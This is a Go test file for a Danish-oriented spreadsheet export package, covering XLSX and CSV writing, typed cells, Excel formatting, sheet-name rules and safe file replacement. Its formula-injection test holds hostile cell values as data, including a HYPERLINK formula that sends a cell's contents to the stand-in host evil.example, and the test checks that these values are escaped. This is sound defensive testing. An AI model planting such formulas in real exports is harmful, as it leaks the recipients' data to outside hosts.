package sheet

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"directdesk/backend/marketing"
)

// exportT writes rows to path and closes the writer; the file must appear.
func exportT(t testing.TB, path string, cols []Column, opt WriteOptions, rows ...[]string) {
	t.Helper()
	w, err := Create(path, cols, opt)
	if err != nil {
		t.Fatalf("Create(%s): %v", filepath.Base(path), err)
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatalf("Write(%q): %v", r, err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if w.Rows() != len(rows) {
		t.Fatalf("Rows() = %d, want %d", w.Rows(), len(rows))
	}
}

// readBack reads the first sheet of a file with this package's reader.
func readBack(t testing.TB, path string) [][]Cell {
	t.Helper()
	b := openT(t, path, Options{})
	return readAll(t, b, b.Sheets()[0].Name)
}

// dirNames lists a folder, to prove no temporary file is left behind.
func dirNames(t testing.TB, dir string) []string {
	t.Helper()
	es, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range es {
		names = append(names, e.Name())
	}
	return names
}

func sheetXML(t testing.TB, path string) string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	b, err := partOf(data, "xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

var kindCols = []Column{
	{Header: "Navn"}, {Header: "Beløb", Kind: ColMoney}, {Header: "Antal", Kind: ColInteger},
	{Header: "Vægt", Kind: ColNumber}, {Header: "Født", Kind: ColDate}, {Header: "Oprettet", Kind: ColDateTime},
}

func TestXLSXExportHasTypedCellsAndReadsBack(t *testing.T) {
	p := filepath.Join(t.TempDir(), "kunder.xlsx")
	exportT(t, p, kindCols, WriteOptions{SheetName: "Kunder"},
		[]string{"Søren Ærø", "1234.50", "42", "0.25", "2024-01-15", "2024-01-15T13:45:00Z"},
		[]string{"Åse", "-12.5", "-3", "1000000", "1900-03-01", "2000-02-29T00:00:00Z"},
		[]string{"", "kr 10", "4.5", "1,5", "15.01.2024", "yesterday"},
		[]string{"Kun navn"},
	)
	rows := readBack(t, p)
	if len(rows) != 5 {
		t.Fatalf("%d rows, want header + 4: %v", len(rows), rows)
	}
	if got := texts(rows[0]); strings.Join(got, "|") != "Navn|Beløb|Antal|Vægt|Født|Oprettet" {
		t.Errorf("header %q", got)
	}
	local := func(s string) string {
		tm, _ := time.Parse(time.RFC3339, s)
		return tm.In(time.Local).Format("2006-01-02 15:04")
	}
	want := [][]struct {
		kind CellKind
		text string
		raw  string
	}{
		{{KindString, "Søren Ærø", ""}, {KindNumber, "", "1234.5"}, {KindNumber, "42", "42"}, {KindNumber, "", "0.25"}, {KindDate, "2024-01-15", "45306"}, {KindDate, local("2024-01-15T13:45:00Z"), ""}},
		{{KindString, "Åse", ""}, {KindNumber, "", "-12.5"}, {KindNumber, "-3", "-3"}, {KindNumber, "1000000", "1000000"}, {KindDate, "1900-03-01", "61"}, {KindDate, local("2000-02-29T00:00:00Z"), ""}},
		// values that do not fit their column's kind stay as the text they were
		{{KindEmpty, "", ""}, {KindString, "kr 10", ""}, {KindNumber, "4.5", "4.5"}, {KindString, "1,5", ""}, {KindString, "15.01.2024", ""}, {KindString, "yesterday", ""}},
	}
	for r, wr := range want {
		for c, w := range wr {
			got := cellAt(rows, r+1, c)
			if got.Kind != w.kind || (w.text != "" && got.Text != w.text) || (w.raw != "" && got.Raw != w.raw) {
				t.Errorf("row %d col %d = %+v, want kind %v text %q raw %q", r+2, c+1, got, w.kind, w.text, w.raw)
			}
		}
	}
	if len(rows[4]) != 1 || rows[4][0].Text != "Kun navn" {
		t.Errorf("short row = %+v", rows[4])
	}
	// Money shows with two decimals and a thousands separator.
	if c := cellAt(rows, 1, 1); c.Text != "1,234.50" {
		t.Errorf("money text %q, want 1,234.50", c.Text)
	}
}

func TestXLSXExportLooksFinishedInExcel(t *testing.T) {
	p := filepath.Join(t.TempDir(), "kunder.xlsx")
	cols := append(kindCols, Column{Header: "Bemærkninger til kunden, som er meget lange", Width: 0}, Column{Header: "Fast", Width: 7.5})
	exportT(t, p, cols, WriteOptions{SheetName: "Kunder"},
		[]string{"a", "1", "2", "3", "2024-01-01", "2024-01-01T00:00:00Z", "x", "y"},
		[]string{"b"}, []string{"c"})

	f, err := excelize.OpenFile(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != 1 || got[0] != "Kunder" {
		t.Fatalf("sheets %q", got)
	}
	st := func(cell string) *excelize.Style {
		t.Helper()
		id, err := f.GetCellStyle("Kunder", cell)
		if err != nil {
			t.Fatal(err)
		}
		s, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	for _, c := range []string{"A1", "F1", "H1"} {
		if s := st(c); s.Font == nil || !s.Font.Bold {
			t.Errorf("header %s is not bold", c)
		}
	}
	if s := st("A2"); s.Font != nil && s.Font.Bold {
		t.Error("data row is bold")
	}
	if s := st("B2"); s.NumFmt != 4 {
		t.Errorf("money format %d, want 4 (#,##0.00)", s.NumFmt)
	}
	if s := st("C2"); s.NumFmt != 1 {
		t.Errorf("integer format %d, want 1 (0)", s.NumFmt)
	}
	if s := st("E2"); s.CustomNumFmt == nil || *s.CustomNumFmt != "yyyy-mm-dd" {
		t.Errorf("date format %+v", s.CustomNumFmt)
	}
	if s := st("F2"); s.CustomNumFmt == nil || *s.CustomNumFmt != "yyyy-mm-dd hh:mm" {
		t.Errorf("date-time format %+v", s.CustomNumFmt)
	}

	panes, err := f.GetPanes("Kunder")
	if err != nil {
		t.Fatal(err)
	}
	if !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 0 || panes.TopLeftCell != "A2" {
		t.Errorf("panes %+v, want frozen below the header", panes)
	}

	for col, want := range map[string]float64{"A": 12, "B": 14, "C": 10, "D": 12, "E": 12, "F": 17, "G": 40, "H": 7.5} {
		if got, err := f.GetColWidth("Kunder", col); err != nil || got != want {
			t.Errorf("width of %s = %v (%v), want %v", col, got, err, want)
		}
	}

	// excelize writes the range with $ signs, as Excel itself sometimes does.
	if x := sheetXML(t, p); !strings.Contains(x, `<autoFilter ref="A1:H4"`) && !strings.Contains(x, `<autoFilter ref="$A$1:$H$4"`) {
		t.Errorf("no autofilter over A1:H4 in %s", x[max(0, len(x)-600):])
	}
	names := f.GetDefinedName()
	found := false
	for _, n := range names {
		if n.Name == "_xlnm._FilterDatabase" {
			found = strings.Contains(n.RefersTo, "$A$1:$H$4")
		}
	}
	if !found {
		t.Errorf("filter database name missing or wrong: %+v", names)
	}
}

func TestXLSXSheetNamesAreMadeValidForExcel(t *testing.T) {
	for in, want := range map[string]string{
		"":                 "Sheet1",
		"Kunder 2024/25":   "Kunder 2024-25",
		"[Ordrer]: *nye*?": "(Ordrer)- _nye__",
		"'Citat'":          "Citat",
		"Контакты и заказы за весь год":       "Контакты и заказы за весь год",
		"Et meget langt arknavn over grænsen": "Et meget langt arknavn over græ",
		"history":                             "history_",
		"Tab\there":                           "Tab\there",
		"a\x00b":                              "ab",
	} {
		if got := sheetName(in); got != want {
			t.Errorf("sheetName(%q) = %q, want %q", in, got, want)
		}
		if got := sheetName(in); utf8.RuneCountInString(got) > 31 {
			t.Errorf("sheetName(%q) is %d long", in, utf8.RuneCountInString(got))
		}
	}
	// An apostrophe inside a name needs doubling in the filter's defined name.
	p := filepath.Join(t.TempDir(), "o.xlsx")
	exportT(t, p, []Column{{Header: "A"}}, WriteOptions{SheetName: "Ole's kunder"}, []string{"x"})
	f, err := excelize.OpenFile(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, n := range f.GetDefinedName() {
		if n.Name == "_xlnm._FilterDatabase" && !strings.HasPrefix(n.RefersTo, "'Ole''s kunder'!") {
			t.Errorf("filter name refers to %q", n.RefersTo)
		}
	}
	if rows := readBack(t, p); cellAt(rows, 1, 0).Text != "x" {
		t.Errorf("rows %v", rows)
	}
}

func TestAnEmptyExportIsAHeaderRowWithAFilter(t *testing.T) {
	dir := t.TempDir()
	x, c := filepath.Join(dir, "tom.xlsx"), filepath.Join(dir, "tom.csv")
	exportT(t, x, kindCols, WriteOptions{})
	exportT(t, c, kindCols, WriteOptions{})
	for _, p := range []string{x, c} {
		rows := readBack(t, p)
		if len(rows) != 1 || len(rows[0]) != len(kindCols) {
			t.Errorf("%s: rows %v", filepath.Base(p), rows)
		}
	}
	if s := sheetXML(t, x); !strings.Contains(s, `<autoFilter ref="A1:F1"`) && !strings.Contains(s, `<autoFilter ref="$A$1:$F$1"`) {
		t.Error("no autofilter on the header of an empty export")
	}
}

func TestCSVExportIsWhatExcelOnWindowsExpects(t *testing.T) {
	dir := t.TempDir()
	cols := []Column{{Header: "Navn"}, {Header: "Beløb", Kind: ColMoney}, {Header: "Antal", Kind: ColInteger},
		{Header: "Dato", Kind: ColDate}, {Header: "Tid", Kind: ColDateTime}, {Header: "Note; med \"citat\""}}
	rows := [][]string{
		{"Jens; Hansen", "1234.50", "42", "2024-01-15", "2024-01-15T13:45:00Z", "linje 1\nlinje 2"},
		{"Åse \"Ø\"", "-12.5", "-3", "15/1/2024", "", "a,b"},
		{"Kun navn"},
	}
	stamp := time.Date(2024, 1, 15, 13, 45, 0, 0, time.UTC).In(time.Local).Format("2006-01-02 15:04:05")

	semi := filepath.Join(dir, "semi.csv")
	exportT(t, semi, cols, WriteOptions{}, rows...) // ';' by default
	got, _ := os.ReadFile(semi)
	want := "\xEF\xBB\xBF" + `Navn;Beløb;Antal;Dato;Tid;"Note; med ""citat"""` + "\r\n" +
		`"Jens; Hansen";1234,50;42;2024-01-15;` + stamp + `;"linje 1` + "\n" + `linje 2"` + "\r\n" +
		`"Åse ""Ø""";-12,5;-3;15/1/2024;;a,b` + "\r\n" +
		"Kun navn;;;;;\r\n"
	if string(got) != want {
		t.Errorf("semicolon csv:\n%q\nwant\n%q", got, want)
	}

	comma := filepath.Join(dir, "comma.txt")
	exportT(t, comma, cols, WriteOptions{Delimiter: ','}, rows...)
	got, _ = os.ReadFile(comma)
	want = "\xEF\xBB\xBF" + `Navn,Beløb,Antal,Dato,Tid,"Note; med ""citat"""` + "\r\n" +
		`Jens; Hansen,1234.50,42,2024-01-15,` + stamp + `,"linje 1` + "\n" + `linje 2"` + "\r\n" +
		`"Åse ""Ø""",-12.5,-3,15/1/2024,,"a,b"` + "\r\n" +
		"Kun navn,,,,,\r\n"
	if string(got) != want {
		t.Errorf("comma csv:\n%q\nwant\n%q", got, want)
	}

	tab := filepath.Join(dir, "tab.csv")
	exportT(t, tab, cols[:2], WriteOptions{Delimiter: '\t'}, []string{"a\tb", "1.5"})
	got, _ = os.ReadFile(tab)
	if want := "\xEF\xBB\xBFNavn\tBeløb\r\n\"a\tb\"\t1.5\r\n"; string(got) != want {
		t.Errorf("tab csv %q, want %q", got, want)
	}

	// This package reads its own CSV back cell for cell.
	for _, p := range []string{semi, comma} {
		back := readBack(t, p)
		if len(back) != 4 {
			t.Fatalf("%s: %d rows", filepath.Base(p), len(back))
		}
		if c := cellAt(back, 1, 5); c.Text != "linje 1\nlinje 2" {
			t.Errorf("%s: multi-line cell %q", filepath.Base(p), c.Text)
		}
		if c := cellAt(back, 2, 0); c.Text != `Åse "Ø"` {
			t.Errorf("%s: quoted cell %q", filepath.Base(p), c.Text)
		}
		if c := cellAt(back, 0, 5); c.Text != `Note; med "citat"` {
			t.Errorf("%s: header %q", filepath.Base(p), c.Text)
		}
	}
}

func TestFormulaInjectionIsEscapedInBothFormats(t *testing.T) {
	evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Klik")`, "+1", "-1+2", "@SUM(A1:A9)", "\tx", "\rx", "-12", "=1+1"}
	cols := []Column{{Header: "=Header"}, {Header: "Tal", Kind: ColNumber}, {Header: "Dato", Kind: ColDate}}
	dir := t.TempDir()
	for _, name := range []string{"evil.xlsx", "evil-semi.csv", "evil-comma.csv"} {
		p := filepath.Join(dir, name)
		opt := WriteOptions{}
		if strings.Contains(name, "comma") {
			opt.Delimiter = ','
		}
		var rows [][]string
		for _, e := range evil {
			rows = append(rows, []string{e, e, e})
		}
		rows = append(rows, []string{"fine", "-12", "2024-01-15"}) // a real negative number stays a number
		exportT(t, p, cols, opt, rows...)

		back := readBack(t, p)
		if c := cellAt(back, 0, 0); c.Text != "'=Header" {
			t.Errorf("%s: header %q", name, c.Text)
		}
		for i, e := range evil {
			for col := range cols {
				if col == 1 && e == "-12" {
					continue // a number in a number column
				}
				// csv: a leading apostrophe; xlsx: a text cell flagged quotePrefix.
				want := "'" + e
				if strings.HasSuffix(name, ".xlsx") {
					want = e
				}
				c := cellAt(back, i+1, col)
				if c.Text != want || c.Kind != KindString {
					t.Errorf("%s: %q in column %d came back as %q (%v), want %q", name, e, col+1, c.Text, c.Kind, want)
				}
			}
		}
		last := len(evil) + 1
		if c := cellAt(back, last, 1); c.Text != "-12" {
			t.Errorf("%s: number -12 came back as %q", name, c.Text)
		}
		if strings.HasSuffix(name, ".xlsx") {
			if c := cellAt(back, last, 1); c.Kind != KindNumber {
				t.Errorf("number -12 is %v", c.Kind)
			}
			// No cell of ours is ever a formula, and the escaped ones are quotePrefix text.
			if x := sheetXML(t, p); strings.Contains(x, "<f>") || strings.Contains(x, "<f ") {
				t.Error("the sheet holds a formula")
			}
			z, err := excelize.OpenFile(p)
			if err != nil {
				t.Fatal(err)
			}
			id, _ := z.GetCellStyle(z.GetSheetList()[0], "A2")
			if xf := z.Styles.CellXfs.Xf[id]; xf.QuotePrefix == nil || !*xf.QuotePrefix {
				t.Errorf("escaped cell has no quotePrefix (style %d)", id)
			}
			z.Close()
		}
	}
}

func TestEscapeFormula(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\tx": "'\tx", "\rx": "'\rx",
		"Jens": "Jens", " =1": " =1", "a=b": "a=b", "'=1": "'=1", "\nx": "\nx", "12": "12", "ø=": "ø=",
	} {
		if got := EscapeFormula(in); got != want {
			t.Errorf("EscapeFormula(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestNordicAndCyrillicTextSurvives(t *testing.T) {
	values := []string{"æøå ÆØÅ äö ÄÖ", "Ёё Ъъ Щука", "Ærø Købmand ApS", "Åsa Öberg", "emoji 🙂 and 𝄞"}
	cols := []Column{{Header: "Имя/Navn"}, {Header: "Ørsted"}}
	dir := t.TempDir()
	for _, name := range []string{"t.xlsx", "t.csv"} {
		p := filepath.Join(dir, name)
		var rows [][]string
		for _, v := range values {
			rows = append(rows, []string{v, strings.ToUpper(v)})
		}
		exportT(t, p, cols, WriteOptions{}, rows...)
		back := readBack(t, p)
		if got := texts(back[0]); got[0] != "Имя/Navn" || got[1] != "Ørsted" {
			t.Errorf("%s: header %q", name, got)
		}
		for i, v := range values {
			if got := texts(back[i+1]); got[0] != v || got[1] != strings.ToUpper(v) {
				t.Errorf("%s: %q came back as %q", name, v, got)
			}
		}
	}
}

func TestTextIsCleanedForXMLAndCutToExcelsLimit(t *testing.T) {
	long := strings.Repeat("ø", maxCellUnits+100)
	longEmoji := strings.Repeat("🙂", maxCellUnits/2) + "x" // 32,767 units with the x; one more emoji would split
	cols := []Column{{Header: "Tekst"}, {Header: "Tal", Kind: ColNumber}}
	rows := [][]string{
		{"a\x00b\x01c\x1fd\te\nf\rg\uFFFEh\uFFFFi", "1\x00"},
		{"bad \xff\xfe utf8"},
		{"\x00=cmd", ""},
		{long},
		{longEmoji + "🙂"},
		{"_x0041_ stays literal"},
	}
	dir := t.TempDir()
	for _, name := range []string{"c.xlsx", "c.csv"} {
		p := filepath.Join(dir, name)
		exportT(t, p, cols, WriteOptions{}, rows...)
		back := readBack(t, p)
		checks := []struct {
			r, c int
			want string
		}{
			{1, 0, "abcd\te\nf\rghi"}, {1, 1, "1"}, {2, 0, "bad \uFFFD\uFFFD utf8"},
			{3, 0, map[bool]string{true: "=cmd", false: "'=cmd"}[name == "c.xlsx"]}, // removing the NUL must not uncover a formula (xlsx: quotePrefix)
			{4, 0, long[:2*maxCellUnits]}, {5, 0, longEmoji}, {6, 0, "_x0041_ stays literal"},
		}
		for _, ck := range checks {
			if got := cellAt(back, ck.r, ck.c).Text; got != ck.want {
				if len(got) > 80 {
					t.Errorf("%s: cell %d,%d has %d chars, want %d", name, ck.r, ck.c, utf8.RuneCountInString(got), utf8.RuneCountInString(ck.want))
				} else {
					t.Errorf("%s: cell %d,%d = %q, want %q", name, ck.r, ck.c, got, ck.want)
				}
			}
		}
	}
}

func TestTooManyValuesFailsAndLeavesNoFile(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "x.xlsx")
	w, err := Create(p, []Column{{Header: "A"}, {Header: "B"}}, WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write([]string{"1", "2"}); err != nil {
		t.Fatal(err)
	}
	err = w.Write([]string{"1", "2", "3"})
	if marketing.ErrorCode(err) != marketing.EInternal {
		t.Fatalf("err = %v", err)
	}
	if err2 := w.Write([]string{"1"}); err2 != err {
		t.Errorf("a Write after an error gave %v, want the same error", err2)
	}
	if err2 := w.Close(); err2 != err {
		t.Errorf("Close after an error gave %v", err2)
	}
	w.Abort()
	if names := dirNames(t, dir); len(names) != 0 {
		t.Errorf("left behind %q", names)
	}
}

func TestAbortLeavesTheOldFileUntouched(t *testing.T) {
	for _, name := range []string{"keep.xlsx", "keep.csv"} {
		dir := t.TempDir()
		p := filepath.Join(dir, name)
		old := []byte("the user's old file")
		if err := os.WriteFile(p, old, 0o640); err != nil {
			t.Fatal(err)
		}
		w, err := Create(p, kindCols, WriteOptions{})
		if err != nil {
			t.Fatal(err)
		}
		for i := range 1000 {
			if err := w.Write([]string{fmt.Sprint("row ", i), "1.00"}); err != nil {
				t.Fatal(err)
			}
		}
		if len(dirNames(t, dir)) != 2 {
			t.Errorf("%s: want the old file and one temporary file while writing, have %q", name, dirNames(t, dir))
		}
		w.Abort()
		w.Abort() // twice is fine
		if err := w.Write([]string{"late"}); marketing.ErrorCode(err) != marketing.ECanceled {
			t.Errorf("%s: Write after Abort = %v", name, err)
		}
		if err := w.Close(); marketing.ErrorCode(err) != marketing.ECanceled {
			t.Errorf("%s: Close after Abort = %v", name, err)
		}
		got, _ := os.ReadFile(p)
		if !bytes.Equal(got, old) {
			t.Errorf("%s: the old file changed", name)
		}
		if names := dirNames(t, dir); len(names) != 1 || names[0] != name {
			t.Errorf("%s: folder holds %q", name, names)
		}
	}
}

func TestCloseReplacesTheOldFileInOneStep(t *testing.T) {
	for _, name := range []string{"new.xlsx", "new.csv"} {
		dir := t.TempDir()
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte("old"), 0o640); err != nil {
			t.Fatal(err)
		}
		w, err := Create(p, []Column{{Header: "Navn"}}, WriteOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write([]string{"ny"}); err != nil {
			t.Fatal(err)
		}
		if got, _ := os.ReadFile(p); string(got) != "old" {
			t.Fatalf("%s: target changed before Close", name)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Errorf("second Close: %v", err)
		}
		w.Abort() // after a successful Close the file stays
		if rows := readBack(t, p); cellAt(rows, 1, 0).Text != "ny" {
			t.Errorf("%s: new file reads %v", name, rows)
		}
		if names := dirNames(t, dir); len(names) != 1 {
			t.Errorf("%s: folder holds %q", name, names)
		}
		if fi, _ := os.Stat(p); fi.Mode().Perm() != 0o640 {
			t.Errorf("%s: mode %v, want the old file's 0640", name, fi.Mode().Perm())
		}
	}
	// A new file gets the usual mode, not CreateTemp's private 0600.
	p := filepath.Join(t.TempDir(), "fresh.csv")
	exportT(t, p, []Column{{Header: "A"}}, WriteOptions{})
	if fi, _ := os.Stat(p); fi.Mode().Perm() != 0o644 {
		t.Errorf("new file mode %v", fi.Mode().Perm())
	}
}

func TestXLSXSpillFolderIsRemoved(t *testing.T) {
	p := filepath.Join(t.TempDir(), "s.xlsx")
	w, err := Create(p, []Column{{Header: "A"}}, WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	spill := w.spill
	if spill == "" {
		t.Skip("no private temporary folder on this machine")
	}
	// Past excelize's 16 MiB in-memory chunk, so it spills to a file.
	row := []string{strings.Repeat("x", 1000)}
	for range 20_000 {
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	if names := dirNames(t, spill); len(names) != 1 {
		t.Errorf("spill folder holds %q, want excelize's one file", names)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(spill); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("spill folder %s still there: %v", spill, err)
	}
}

func TestFailedWritesSayWhatToDoAndLeaveNoFile(t *testing.T) {
	dir := t.TempDir()
	cols := []Column{{Header: "A"}}
	for _, name := range []string{"x.xlsx", "x.csv"} {
		_, err := Create(filepath.Join(dir, "gone", name), cols, WriteOptions{})
		e := wantErr(t, err, marketing.EInvalid, "write")
		if e.Details["cause"] != "no_folder" || e.Field != "path" {
			t.Errorf("missing folder: %+v", e)
		}
	}
	// A file where the folder should be.
	file := filepath.Join(dir, "file")
	os.WriteFile(file, []byte("x"), 0o600)
	if _, err := Create(filepath.Join(file, "x.csv"), cols, WriteOptions{}); err == nil {
		t.Error("writing under a file worked")
	}
	// A folder where the file should be.
	os.Mkdir(filepath.Join(dir, "folder.xlsx"), 0o700)
	e := wantErr(t, func() error { _, err := Create(filepath.Join(dir, "folder.xlsx"), cols, WriteOptions{}); return err }(), marketing.EInvalid, "write")
	if e.Details["cause"] != "is_folder" {
		t.Errorf("folder at path: %+v", e)
	}
	if names := dirNames(t, dir); len(names) != 2 {
		t.Errorf("folder holds %q", names)
	}

	if os.Geteuid() == 0 {
		t.Log("running as root: a read-only folder cannot be tested")
		return
	}
	ro := filepath.Join(dir, "ro")
	os.Mkdir(ro, 0o500)
	t.Cleanup(func() { os.Chmod(ro, 0o700) })
	for _, name := range []string{"x.xlsx", "x.csv"} {
		_, err := Create(filepath.Join(ro, name), cols, WriteOptions{})
		if e := wantErr(t, err, marketing.EInvalid, "write"); e.Details["cause"] != "permission" {
			t.Errorf("read-only folder: %+v", e)
		}
	}
	if names := dirNames(t, ro); len(names) != 0 {
		t.Errorf("read-only folder holds %q", names)
	}
}

func TestWriteErrorsAreNamedByCause(t *testing.T) {
	pe := func(err error) error { return &fs.PathError{Op: "write", Path: "/x/y.xlsx", Err: err} }
	for _, c := range []struct {
		err   error
		code  string
		cause string
	}{
		{pe(syscall.ENOSPC), marketing.EInvalid, "disk_full"},
		{pe(syscall.EACCES), marketing.EInvalid, "permission"},
		{pe(syscall.EROFS), marketing.EInvalid, "permission"},
		{pe(syscall.ENOENT), marketing.EInvalid, "no_folder"},
		{pe(syscall.EIO), marketing.EInternal, "other"},
	} {
		e := writeError(c.err, "/x/y.xlsx")
		if e.Code != c.code || e.Details["cause"] != c.cause || e.Details["reason"] != "write" || e.Details["name"] != "y.xlsx" || e.Message == "" {
			t.Errorf("%v -> %+v", c.err, e)
		}
		if !errors.Is(e, c.err.(*fs.PathError).Err) {
			t.Errorf("%v: cause not kept", c.err)
		}
	}
	if e := replaceError(pe(syscall.EACCES), "/x/y.xlsx"); e.Details["cause"] != "in_use" || !strings.Contains(e.Message, "Excel") {
		t.Errorf("replace: %+v", e)
	}
}

func TestXLSXStopsAtExcelsRowLimit(t *testing.T) {
	p := filepath.Join(t.TempDir(), "big.xlsx")
	w, err := Create(p, []Column{{Header: "A"}}, WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write([]string{"1"}); err != nil {
		t.Fatal(err)
	}
	w.rows = maxSheetRows - 1 // as if a million rows had been written
	wantErr(t, w.Write([]string{"one too many"}), marketing.ETooLarge, "rows")
	if _, err := os.Stat(p); !errors.Is(err, fs.ErrNotExist) {
		t.Error("a file appeared")
	}
}

func TestCreateRefusesBadArguments(t *testing.T) {
	dir := t.TempDir()
	cols := []Column{{Header: "A"}}
	e := wantErr(t, func() error { _, err := Create(filepath.Join(dir, "a.ods"), cols, WriteOptions{}); return err }(), marketing.EInvalid, "extension")
	if e.Field != "path" || e.Details["extension"] != ".ods" {
		t.Errorf("%+v", e)
	}
	for _, c := range []struct {
		cols []Column
		opt  WriteOptions
	}{
		{nil, WriteOptions{}},
		{cols, WriteOptions{Format: "ods"}},
		{cols, WriteOptions{Delimiter: '|'}},
	} {
		if _, err := Create(filepath.Join(dir, "a.csv"), c.cols, c.opt); marketing.ErrorCode(err) != marketing.EInternal {
			t.Errorf("%+v: %v", c, err)
		}
	}
	wantErr(t, func() error {
		_, err := Create(filepath.Join(dir, "a.xlsx"), make([]Column, maxSheetCols+1), WriteOptions{})
		return err
	}(), marketing.ETooLarge, "columns")
	// An explicit format wins over the extension.
	p := filepath.Join(dir, "export.dat")
	exportT(t, p, cols, WriteOptions{Format: "XLSX"}, []string{"x"})
	if b := openT(t, p, Options{}); b.Format() != "xlsx" {
		t.Errorf("format %s", b.Format())
	}
	if names := dirNames(t, dir); len(names) != 1 {
		t.Errorf("folder holds %q", names)
	}
}

func TestFormatOfAndDelimiterFor(t *testing.T) {
	for in, want := range map[string]string{"a.xlsx": "xlsx", "A.XLSX": "xlsx", "b.csv": "csv", "c.TXT": "csv", "dir.v2/d.Csv": "csv"} {
		if got, err := FormatOf(in); got != want || err != nil {
			t.Errorf("FormatOf(%q) = %q, %v", in, got, err)
		}
	}
	for _, in := range []string{"a.xls", "a", "a.ods", "a.xlsx.bak"} {
		_, err := FormatOf(in)
		wantErr(t, err, marketing.EInvalid, "extension")
	}
	for in, want := range map[string]rune{"en": ',', "EN": ',', "en-GB": ',', "en_US": ',', "da": ';', "sv": ';', "nb": ';', "ru": ';', "": ';', "de": ';'} {
		if got := DelimiterFor(in); got != want {
			t.Errorf("DelimiterFor(%q) = %q", in, got)
		}
	}
}

func TestPlainNumbersAndSerials(t *testing.T) {
	for in, want := range map[string][2]bool{
		"0": {true, true}, "-3": {true, true}, "1234.50": {false, true}, "-0.5": {false, true}, "007": {true, true},
		"123456789012345": {true, true}, "1234567890123456": {false, false}, "0.000000000000001": {false, true},
		"": {false, false}, "-": {false, false}, "+1": {false, false}, "1.": {false, false}, ".5": {false, false},
		"1e5": {false, false}, "1,5": {false, false}, " 1": {false, false}, "1.2.3": {false, false}, "NaN": {false, false},
	} {
		isInt, ok := plainNumber(in)
		if ok != want[1] || (ok && isInt != want[0]) {
			t.Errorf("plainNumber(%q) = %v, %v; want %v", in, isInt, ok, want)
		}
	}
	for in, want := range map[string]float64{"1900-03-01": 61, "2024-01-15": 45306, "9999-12-31": 2958465} {
		tm, _ := parseDate(in)
		if got, ok := excelSerial(tm); !ok || got != want {
			t.Errorf("serial(%s) = %v, %v", in, got, ok)
		}
	}
	if s, ok := excelSerial(time.Date(2024, 1, 15, 18, 0, 0, 0, time.UTC)); !ok || s != 45306.75 {
		t.Errorf("serial with time = %v", s)
	}
	if _, ok := excelSerial(time.Date(1900, 2, 28, 0, 0, 0, 0, time.UTC)); ok {
		t.Error("a date before March 1900 got a serial")
	}
	for _, bad := range []string{"2024-02-30", "2024-1-5", "24-01-15", "2024-01-15T00:00:00Z"} {
		if _, ok := parseDate(bad); ok {
			t.Errorf("parseDate(%q) ok", bad)
		}
	}
}
